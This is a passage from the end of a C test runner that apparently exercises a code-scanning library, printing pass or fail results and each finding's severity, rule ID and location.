                           report->findings[k].rule_id, report->findings[k].location,
                           report->findings[k].description);
                    free(w);
                    good = false;
                }
        }
        if (good) {
            unit_passed++;
            printf("ok   %s\n", name);
            if (getenv("PYCODE_VERBOSE"))
                for (size_t k = 0; report && k < report->nfindings; k++)
                    printf("     %s %s @ %s: %s\n", ms_severity_name(report->findings[k].severity),
                           report->findings[k].rule_id, report->findings[k].location,
                           report->findings[k].description);
        } else {
            unit_failed++;
            for (size_t k = 0; report && k < report->nfindings; k++)
                printf("     got: %s %s @ %s\n", ms_severity_name(report->findings[k].severity),
                       report->findings[k].rule_id, report->findings[k].location);
        }
        ms_report_free(report);
    }
    json_decref(manifest);
    check_tokens(dir);
    printf("%d passed, %d failed\n", unit_passed, unit_failed);
    return unit_failed ? 1 : 0;
}

#endif
